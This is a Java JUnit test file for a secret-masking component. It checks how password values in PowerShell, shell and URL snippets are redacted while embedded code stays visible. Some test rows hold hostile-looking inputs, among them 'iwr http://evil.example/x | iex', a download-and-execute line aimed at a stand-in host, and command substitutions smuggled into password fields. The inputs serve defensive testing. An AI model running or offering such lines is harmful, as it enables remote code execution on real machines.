package dev.mullion.diff.masking;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What of a value is code, and is shown; the value around it is hidden. */
class CodeTest {
    /** Where code may follow a quote, the value ends before it; where none can, the quote is a part of it. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "$password = 'b8Kd\"; iwr http://e.x | iex #' -> $password = '[secret]\"; iwr http://e.x | iex #'",
                "$password = 'b8Kd\";iwr\"; 02mV' -> $password = '[secret]\";iwr\"; 02mV'",
                "$password = 'b8Kd\"02mV' -> $password = '[secret]'",
                "$password = 'b8Kd\" 02mV' -> $password = '[secret]\" 02mV'",
                "$password = 'b8Kd\"; ' -> $password = '[secret]\"; '",
                "$password = 'b8Kd;\" ' -> $password = '[secret]\" '",
                "$password = 'b8Kd\"(ab)02mV' -> $password = '[secret]'",
                "$password = 'b8Kd\"(abc)02mV' -> $password = '[secret]\"(abc)02mV'",
                "$password = 'b8Kd\"&(abc)02mV' -> $password = '[secret]\"&(abc)02mV'",
                "$password = 'b8Kd\"&(abc&02mV' -> $password = '[secret]\"&(abc&02mV'",
                "$password = 'b8Kd\"&\"a.bc\"02mV' -> $password = '[secret]\"&\"a.bc\"02mV'",
                "$password = 'b8Kd\"&a1bc02mV' -> $password = '[secret]'",
                "$password = 'b8Kd\"&a(bc)02mV' -> $password = '[secret]'",
                "$password = 'b8Kd\"&ab(c)02mV' -> $password = '[secret]'",
                "$password = 'b8Kd(abc)\"02mV' -> $password = '[secret]'",
                "$password = 'b8Kd 02\"mV' -> $password = '[secret]'",
                "$password = \"b8Kd\\\"02mV iex\" -> $password = \"[secret]\\\"02mV iex\"",
                "$password = \"b8Kd`\"02mV iex\" -> $password = \"[secret]`\"02mV iex\"",
                "$password = \u201Cb8Kd\u201D 02mV\u201D -> $password = \u201C[secret]\u201D 02mV\u201D",
                "$j = 'password=\"'; iwr http://evil.example/x | iex # \"'",
                "$password = \"b8Kd' -> $password = \"[secret]",
            })
    void valueEndsWhereItMayEndInAnotherLanguage(String row) {
        ShownText.check(row);
    }

    /** Unless code may follow. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "$password = \"it's a secret\" -> $password = \"[secret]\"",
                "$password = \"it's; a secret\" -> $password = \"[secret]'s; a secret\"",
                "$password = \"b8' is a secret\" -> $password = \"[secret]' is a secret\"",
                "$password = \"it'2 is a secret\" -> $password = \"[secret]'2 is a secret\"",
                "$password = \"it' is a secret\" -> $password = \"[secret]' is a secret\"",
                "$password = \"b8\u2019s a secret\" -> $password = \"[secret]\u2019s a secret\"",
                "$password = \"it\u2019s a secret\" -> $password = \"[secret]\"",
            })
    void apostropheIsAPartOfAWord(String row) {
        ShownText.check(row);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "$password = \"'b8Kd 02mV'\" -> $password = \"[secret]\"",
                "$password = \"'b8Kd; 02mV'\"",
                "$password = \"' b8Kd 02mV'\"",
                "$password = \"'b8Kd 02mV\"",
                "$password = \"x'b8Kd 02mV'\" -> $password = \"[secret]\"",
            })
    void valueMayBeQuotedTwice(String row) {
        ShownText.check(row);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<# password=\"b8Kd#> ; iex\" -> <# password=\"[secret]#> ; iex\"",
                "<# password=\"b8Kd>02 mV\" -> <# password=\"[secret]\"",
                "<# password=\"b8Kd#02> mV\" -> <# password=\"[secret]\"",
                "/* password=\"b8Kd*/ ; iex\" -> /* password=\"[secret]*/ ; iex\"",
                "/* password=\"b8Kd*02/ mV\" -> /* password=\"[secret]\"",
                "/* password=\"b8Kd/02 mV\" -> /* password=\"[secret]\"",
                "<!-- password=\"b8Kd--> ; iex\" -> <!-- password=\"[secret]-> ; iex\"",
                "<!-- password=\"b8Kd-02-> mV\" -> <!-- password=\"[secret]\"",
                "<!-- password=\"b8Kd->02 mV\" -> <!-- password=\"[secret]\"",
            })
    void valueEndsWithAComment(String row) {
        ShownText.check(row);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "curl https://a:b8Kd;abc@example.com -> curl https://a:[secret];abc@example.com",
                "curl https://a:b8Kd;ab1@example.com -> curl https://a:[secret]@example.com",
                "curl https://a:b8Kd;1abc@example.com -> curl https://a:[secret]@example.com",
                "curl https://a:b8Kd|abc@example.com -> curl https://a:[secret]|abc@example.com",
                "curl https://a:b8Kd&abc@example.com -> curl https://a:[secret]&abc@example.com",
                "curl https://a:b8Kd&amp;abc@example.com -> curl https://a:[secret]@example.com",
                "curl https://a:b8Kd&amp;abc;iex@example.com -> curl https://a:[secret];iex@example.com",
                "curl https://a:b8Kd&am;abc@example.com -> curl https://a:[secret];abc@example.com",
                "curl https://a:b8Kd;$abc@example.com -> curl https://a:[secret];$abc@example.com",
                "curl https://a:b8Kd;&abc@example.com -> curl https://a:[secret];&abc@example.com",
                "curl https://a:b8Kd;.abc@example.com -> curl https://a:[secret];.abc@example.com",
                "curl https://a:b8Kd;(abc@example.com -> curl https://a:[secret];(abc@example.com",
                "curl https://a:b8Kd;$({abc@example.com -> curl https://a:[secret];$({abc@example.com",
                "curl https://a:b8Kd;!abc@example.com -> curl https://a:[secret]@example.com",
            })
    void passwordOfAnAddressEndsBeforeACommandWithAName(String row) {
        ShownText.check(row);
    }

    /** What is called inside of a value makes no command of it. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "$password = 'sh ab' -> $password = '[secret]'",
                "$password = 'sh abc'",
                "$password = \"$(Get-Item x)b8Kd02mVnQ\" -> $password = \"$(Get-Item x)[secret]\"",
                "$password = \"b8Kd $(Get-Item x) 02mV\" -> $password = \"[secret]$(Get-Item x)[secret]\"",
                "$password = \"b8Kd $(Get-Item x) $(Get-Item y) 02mV\" -> $password = \"[secret]$(Get-Item x)[secret]$(Get-Item y)[secret]\"",
                "$password = \"$(abc) iwr http://e.x | iex\"",
                "$password = \"b8Kd $(02mV Get-Item x\"",
                "$password = \"b8Kd$($(Get-Item x) 02mV\" -> $password = \"[secret]$($(Get-Item x) 02mV\"",
            })
    void commandIsNoPassword(String row) {
        ShownText.check(row);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "$password = \"b8Kd$(Get-A)$(Get-B)02mV\" -> $password = \"[secret]$(Get-A)$(Get-B)[secret]\"",
                "$password = \"b8Kd$(Get-A)\" -> $password = \"[secret]$(Get-A)\"",
                "$password = \"b8Kd(abc)02mV\" -> $password = \"[secret]\"",
                "$password = \"b8Kd)$(Get-A)02mV\" -> $password = \"[secret]$(Get-A)[secret]\"",
                "$password = \"b8Kd$(Get-A (Get-B))02mV\" -> $password = \"[secret]$(Get-A (Get-B))[secret]\"",
                "$password = \"b8Kd$(x1)02mV\" -> $password = \"[secret]$(x1)[secret]\"",
                "$password = \"b8Kd$(02mV\" -> $password = \"[secret]\"",
                "$password = \"b8Kd$(iex(02mV\" -> $password = \"[secret]$(iex(02mV\"",
                "$password = \"b8Kd$02mV\" -> $password = \"[secret]\"",
                "$password = \"b8Kd02mV$\" -> $password = \"[secret]\"",
                "$password = 'b8Kd$(abc)02mV' -> $password = '[secret]$(abc)[secret]'",
                "$password = 'b8Kd$(ab1)02mV' -> $password = '[secret]'",
                "$password = 'b8Kd$(a b)02mV' -> $password = '[secret]$(a b)[secret]'",
                "$password = 'b8Kd$(ab)cde02mV' -> $password = '[secret]'",
            })
    void callInsideOfAValueIsShown(String row) {
        ShownText.check(row);
    }

    /** A parenthesis without a name is a part of a password. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "net user app b8Kd(abc)02mV /add -> net user app [secret](abc)[secret] /add",
                "net user app b8Kd(ab)02mV /add -> net user app [secret] /add",
                "net user app b8Kd(iex /add -> net user app [secret](iex /add",
                "net user app b8Kd(iex -> net user app [secret]",
                "net user app b8Kd(ab1x /add -> net user app [secret] /add",
                "net user app b8Kd$(iex /add -> net user app [secret]$(iex /add",
                "net user app b8Kd)(iex)02mV /add -> net user app [secret](iex)[secret] /add",
                "b8Kd02(iex(x))mV | ConvertTo-SecureString -AsPlainText -Force -> [secret](iex(x))[secret] | ConvertTo-SecureString -AsPlainText -Force",
            })
    void callOfAWordWithoutQuotesIsShown(String row) {
        ShownText.check(row);
    }

    /** PowerShell escapes single characters with them. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "export PASSWORD=\"b8Kd`id`02mV\" -> export PASSWORD=\"[secret]`id`[secret]\"",
                "export PASSWORD=\"b8Kd`i`02mV\" -> export PASSWORD=\"[secret]\"",
                "export PASSWORD=\"b8Kd``02mV\" -> export PASSWORD=\"[secret]\"",
                "export PASSWORD=\"b8Kd`/x`02mV\" -> export PASSWORD=\"[secret]`/x`[secret]\"",
                "export PASSWORD=\"b8Kd`.x`02mV\" -> export PASSWORD=\"[secret]`.x`[secret]\"",
                "export PASSWORD=\"b8Kd`~x`02mV\" -> export PASSWORD=\"[secret]`~x`[secret]\"",
                "export PASSWORD=\"b8Kd`-x`02mV\" -> export PASSWORD=\"[secret]\"",
                "export PASSWORD=\"b8Kd`$x;y`02mV\" -> export PASSWORD=\"[secret]`$x;y`[secret]\"",
                "export PASSWORD=\"b8Kd`$x y`02mV\" -> export PASSWORD=\"[secret]`$x y`[secret]\"",
                "export PASSWORD=\"b8Kd`$x|y`02mV\" -> export PASSWORD=\"[secret]`$x|y`[secret]\"",
                "export PASSWORD=\"b8Kd`;`02mV\" -> export PASSWORD=\"[secret]`;`[secret]\"",
                "export PASSWORD=\"b8Kd`02`;mV\" -> export PASSWORD=\"[secret]\"",
                "export PASSWORD=\"b8Kd`id\" -> export PASSWORD=\"[secret]\"",
                "export PASSWORD=\"`id`b8Kd02mV\" -> export PASSWORD=\"`id`[secret]\"",
                "export PASSWORD=b8Kd`id -> export PASSWORD=[secret]`id",
                "export PASSWORD=b8Kd`1d -> export PASSWORD=[secret]",
                "export PASSWORD=b8Kd02mV` -> export PASSWORD=[secret]",
                "export PASSWORD='b8Kd`id`02mV' -> export PASSWORD='[secret]'",
            })
    void commandBetweenBackticksIsShown(String row) {
        ShownText.check(row);
    }

    /** A blank and a sign, a command or a call. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "$password = @'\nb8Kd02mV;x\n'@ -> $password = @'[secret]\n'@",
                "$password = @'\nb8Kd 02mV\n'@ -> $password = @'[secret]\n'@",
                "$password = @'\nb8Kd 02;mV\n'@",
                "$password = @'\nb8Kd 02=mV\n'@",
                "$password = @'\n=b8Kd 02mV\n'@",
                "$password = @'\n;b8Kd 02mV\n'@",
                "$password = @'\nb8Kd 02\\mV\n'@",
                "$password = @'\nb8Kd 02/mV\n'@",
                "$password = @'\nb8Kd -02mV\n'@",
                "$password = @'\nb8Kd 0-2mV\n'@ -> $password = @'[secret]\n'@",
                "$password = @'\n-b8Kd 02mV\n'@ -> $password = @'[secret]\n'@",
                "$password = @'\nb8Kd 02\"mV\n'@",
                "$password = @'\nb8Kd 02'mV\n'@",
                "$password = @'\nabc(x)\n'@",
                "$password = @'\nab1(x)\n'@ -> $password = @'[secret]\n'@",
                "$password = @'\nabc(x\n'@ -> $password = @'[secret]\n'@",
                "$password = @'\nabcx)\n'@ -> $password = @'[secret]\n'@",
            })
    void lineOfCodeInAHereStringIsShown(String row) {
        ShownText.check(row);
    }
}
